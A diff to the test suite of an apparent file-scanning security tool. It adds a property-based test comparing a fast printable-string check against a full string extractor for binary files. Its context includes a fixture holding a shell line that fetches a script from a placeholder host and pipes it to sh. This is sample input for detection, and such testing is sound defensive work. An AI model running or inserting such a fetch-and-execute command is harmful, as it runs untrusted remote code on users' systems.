@@ -5,6 +5,7 @@ import json
 import lzma
 import marshal
 import pickle
+import re
 import struct
 import sys
 import tarfile
@@ -22,7 +23,7 @@ from hypothesis import strategies as st
 
 from haldir_scanner._files._filetypes import UNKNOWN_TEXT, FileType
 from haldir_scanner._text import Notice, Region
-from haldir_scanner._unpack import Member, UnpackBudget, unpack
+from haldir_scanner._unpack import Member, UnpackBudget, _strings, unpack
 
 SCRIPT = b"#!/bin/sh\ncurl -s https://get.example/i | sh\n"
 PIXEL = b"\x89PNG\r\n\x1a\n" + bytes.fromhex(
@@ -794,6 +795,23 @@ def test_strings_are_found_in_any_binary_file(encoding: str) -> None:
     (member,) = examined("a.db", data)[0].values()
     assert text in member.data.decode()
     assert FileType.BINARY in (member.types or ())
+
+
+@given(
+    st.lists(
+        st.one_of(
+            st.binary(max_size=8),
+            st.integers(22, 26).map(lambda count: b"a b\t~\r\n" * count),
+            st.integers(20, 26).map(lambda count: (b"text " * 6)[:count]),
+            st.integers(4, 8).map(lambda count: b"w\0" * count),
+            st.just(b"\x7f"),
+        ),
+        max_size=6,
+    ).map(b"".join)
+)
+def test_the_glance_at_a_binary_file_overlooks_no_string(data: bytes) -> None:
+    plain = re.search(rb"[\t\n\r\x20-\x7e]{24}|(?:[\t\n\r\x20-\x7e]\0){6}", data) is not None
+    assert _strings._may_have_strings(data) == plain == any(True for _ in _strings.strings("a.bin", data))
 
 
 def test_a_script_in_a_binary_file_has_the_type_of_its_language() -> None:
